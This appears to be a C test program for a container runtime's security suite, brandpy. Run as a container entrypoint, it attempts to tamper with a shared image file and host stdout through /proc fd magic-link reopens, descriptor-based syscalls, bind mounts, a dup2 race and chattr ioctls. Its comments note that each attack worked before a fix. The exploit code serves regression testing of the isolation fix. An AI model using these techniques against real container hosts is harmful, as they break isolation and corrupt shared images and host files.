/* An attacker's program for tests/security/test_reopen.py: run as a
 * container's entrypoint, it changes or reads a file it holds a descriptor
 * of but no name in the container leads to, through the descriptor and
 * through its /proc magic links.
 *
 *   image  /img is an image file (a hard link of the image store's inode,
 *          brandpy/images/rootfs.py). It opens /img read-only (and
 *          O_PATH), then writes /proc/self/fd/N: brandpy copies /img up
 *          and the write lands in the container's copy, so the descriptors
 *          now hold the image's own inode, which the container no longer
 *          names. Every change through them follows: write reopens of
 *          /proc/self/fd/N, /dev/fd/N, /proc/PID/fd/N (O_PATH too), fchmod,
 *          fchown, fsetxattr, fremovexattr, futimens, the *at calls with
 *          AT_EMPTY_PATH, and chmod, chown, truncate, setxattr, utimes of
 *          the magic link's path. Before the fix all of them changed the
 *          image in every cell.
 *   bind   (with CAP_SYS_ADMIN) bind-mounts /img on /z and writes /z: a
 *          bind mount's root has no name to copy up under, so before the
 *          fix the write reached the image's inode, in every cell.
 *   swap   one thread keeps making fd 10 now the image's inode (held after
 *          a copy-up), now a file of its own, with dup2, while another
 *          fchmods fd 10: as root brandpy looked at fd 10's file, found it
 *          the container's own and let the kernel make the call, which
 *          looked fd 10 up again. Before the fix the image's mode changed
 *          within a few hundred calls in every root cell; and the same
 *          with fsetxattr and an O_PATH file of its own (brandpy let the
 *          kernel say EBADF for it).
 *   chattr on a read-only fd of /img: FS_IOC_SETFLAGS and FS_IOC_FSSETXATTR
 *          (nodump), natively made on the image's inode before the fix, in
 *          every cell; then the immutable flag on a file of its own, which
 *          takes CAP_LINUX_IMMUTABLE (not the supervisor's).
 *   stdio  stdout is a host file opened for appending: reopened through
 *          /proc/self/fd/1 for reading (its contents printed on stderr)
 *          and for writing without O_APPEND (written at offset 0). Before
 *          the fix both worked in every cell.
 *
 * Each attempt prints "NAME = RESULT" on stderr; "DONE" at the end.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif
#ifndef SYS_setxattrat
#define SYS_setxattrat 463
#endif

struct xattr_args {
    unsigned long long value;
    unsigned size, flags;
};

static void said(const char *what, long rc)
{
    dprintf(2, "%s = %ld%s%s\n", what, rc, rc < 0 ? " " : "", rc < 0 ? strerror(errno) : "");
}

/* Write through a new descriptor: its result, or -1 if the open failed. */
static long write_new(int fd)
{
    if (fd < 0)
        return -1;
    long n = pwrite(fd, "PWNED\n", 6, 0);
    close(fd);
    return n;
}

static void show_img(void);

static void image(void)
{
    char link[64], path[64];
    int ro = open("/img", O_RDONLY), opath = open("/img", O_PATH);
    if (ro < 0 || opath < 0) {
        said("open /img", -1);
        return;
    }
    snprintf(link, sizeof link, "/proc/self/fd/%d", ro);
    said("copy-up write", write_new(open(link, O_WRONLY)));
    show_img();

    said("reopen wronly", write_new(open(link, O_WRONLY)));
    said("reopen rdwr", write_new(open(link, O_RDWR)));
    said("reopen trunc", write_new(open(link, O_WRONLY | O_TRUNC)));
    snprintf(path, sizeof path, "/dev/fd/%d", ro);
    said("reopen devfd", write_new(open(path, O_WRONLY)));
    snprintf(path, sizeof path, "/proc/%d/fd/%d", getpid(), ro);
    said("reopen pid", write_new(open(path, O_WRONLY)));
    snprintf(path, sizeof path, "/proc/self/fd/%d", opath);
    said("reopen opath", write_new(open(path, O_WRONLY)));
    struct open_how how = {.flags = O_WRONLY};
    said("reopen openat2", write_new(syscall(SYS_openat2, AT_FDCWD, link, &how, sizeof how)));

    said("fchmod", fchmod(ro, 0777));
    said("fchown", fchown(ro, 1, 1));
    said("fsetxattr", fsetxattr(ro, "user.pwned", "1", 1, 0));
    said("fremovexattr", fremovexattr(ro, "user.keep"));
    said("futimens", futimens(ro, NULL));
    said("fchownat empty", syscall(SYS_fchownat, opath, "", 2, 2, AT_EMPTY_PATH));
    said("fchmodat2 empty", syscall(SYS_fchmodat2, opath, "", 0700, AT_EMPTY_PATH));
    said("utimensat empty", syscall(SYS_utimensat, opath, "", NULL, AT_EMPTY_PATH));
    struct xattr_args xa = {.value = (unsigned long)"1", .size = 1};
    said("setxattrat empty",
         syscall(SYS_setxattrat, opath, "", AT_EMPTY_PATH, "user.pwned2", &xa, sizeof xa));

    said("chmod link", chmod(link, 0770));
    said("chown link", chown(link, 3, 3));
    said("truncate link", truncate(link, 1));
    said("setxattr link", setxattr(link, "user.pwned3", "1", 1, 0));
    said("removexattr link", removexattr(link, "user.keep"));
    said("utimes link", utimes(link, NULL));
}

static void show_img(void)
{
    char buf[16] = {0};
    int fd = open("/img", O_RDONLY);
    dprintf(2, "img now %s", read(fd, buf, sizeof buf - 1) > 0 ? buf : "?\n");
    close(fd);
}

static void bind(void)
{
    close(open("/z", O_WRONLY | O_CREAT, 0644));
    said("bind", mount("/img", "/z", NULL, MS_BIND, NULL));
    said("write bind", write_new(open("/z", O_WRONLY)));
    show_img();
}

static int swap_fds[2];
static volatile int swapping;

static void *swapper(void *unused)
{
    (void)unused;
    while (swapping) {
        dup2(swap_fds[0], 10);
        dup2(swap_fds[1], 10);
    }
    return NULL;
}

/* fd 10 is in turn the image's inode and the container's own file (an
 * O_PATH one for fsetxattr, which brandpy once let the kernel refuse) while
 * this thread changes fd 10: whether the image changed within 1.5 s. */
static int race_fd10(int xattr)
{
    struct stat st;
    pthread_t thread;
    int changed = 0;
    swap_fds[1] = open("/mine", (xattr ? O_PATH : O_RDWR) | O_CREAT, 0644);
    dup2(swap_fds[1], 10);
    swapping = 1;
    pthread_create(&thread, NULL, swapper, NULL);
    struct timespec end, now;
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_nsec += 500000000;
    end.tv_sec += 1 + end.tv_nsec / 1000000000;
    end.tv_nsec %= 1000000000;
    for (int i = 0; i < 20000 && !changed; i++) {
        if (xattr) {
            fsetxattr(10, "user.pwned", "1", 1, 0);
            changed = fgetxattr(swap_fds[0], "user.pwned", NULL, 0) >= 0;
        } else {
            fchmod(10, i & 1 ? 0604 : 0640);
            changed = fstat(swap_fds[0], &st) == 0 && (st.st_mode & 0777) != 0644;
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec > end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec > end.tv_nsec))
            break;
    }
    swapping = 0;
    pthread_join(thread, NULL);
    close(swap_fds[1]);
    return changed;
}

static void swap(void)
{
    swap_fds[0] = open("/img", O_RDONLY);
    said("copy-up utimes", utimes("/img", NULL));
    said("fchmod changed the image", -race_fd10(0));
    said("fsetxattr changed the image", -race_fd10(1));
}

static void chattr(void)
{
    int ro = open("/img", O_RDONLY), flags = 0;
    struct fsxattr fx;
    said("getflags", ioctl(ro, FS_IOC_GETFLAGS, &flags));
    flags |= FS_NODUMP_FL;
    said("setflags nodump", ioctl(ro, FS_IOC_SETFLAGS, &flags));
    /* /img is the container's copy now: ro holds the image's own inode */
    said("fsgetxattr", ioctl(ro, FS_IOC_FSGETXATTR, &fx));
    fx.fsx_xflags |= FS_XFLAG_NOATIME;
    said("fssetxattr held", ioctl(ro, FS_IOC_FSSETXATTR, &fx));
    int img = open("/img", O_RDONLY);
    said("fsgetxattr img", ioctl(img, FS_IOC_FSGETXATTR, &fx));
    fx.fsx_xflags |= FS_XFLAG_NOATIME;
    said("fssetxattr img", ioctl(img, FS_IOC_FSSETXATTR, &fx));
    flags = 0;
    ioctl(img, FS_IOC_GETFLAGS, &flags);
    dprintf(2, "img flags nodump %d noatime %d\n", !!(flags & FS_NODUMP_FL),
            !!(flags & FS_NOATIME_FL));
    int mine = open("/mine", O_RDONLY | O_CREAT, 0644);
    flags = FS_IMMUTABLE_FL;
    said("immutable", ioctl(mine, FS_IOC_SETFLAGS, &flags));
}

static void stdio(void)
{
    char buf[512];
    int fd = open("/proc/self/fd/1", O_RDONLY);
    long n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    said("read stdout", n);
    if (n > 0) {
        buf[n] = 0;
        dprintf(2, "stdout held: %s\n", buf);
    }
    said("write stdout at 0", write_new(open("/proc/self/fd/1", O_WRONLY)));
    said("rdwr stdout", write_new(open("/proc/self/fd/1", O_RDWR | O_APPEND)));
    said("devfd stdout", write_new(open("/dev/stdout", O_WRONLY)));
    /* what an honest program does: append to its own stdout by name */
    said("append stdout", write(open("/dev/stdout", O_WRONLY | O_APPEND), "appended\n", 9));
}

int main(int argc, char **argv)
{
    if (argc == 2 && !strcmp(argv[1], "image"))
        image();
    else if (argc == 2 && !strcmp(argv[1], "bind"))
        bind();
    else if (argc == 2 && !strcmp(argv[1], "swap"))
        swap();
    else if (argc == 2 && !strcmp(argv[1], "chattr"))
        chattr();
    else if (argc == 2 && !strcmp(argv[1], "stdio"))
        stdio();
    else {
        dprintf(2, "usage: %s image|bind|swap|chattr|stdio\n", argv[0]);
        return 2;
    }
    dprintf(2, "DONE\n");
    return 0;
}
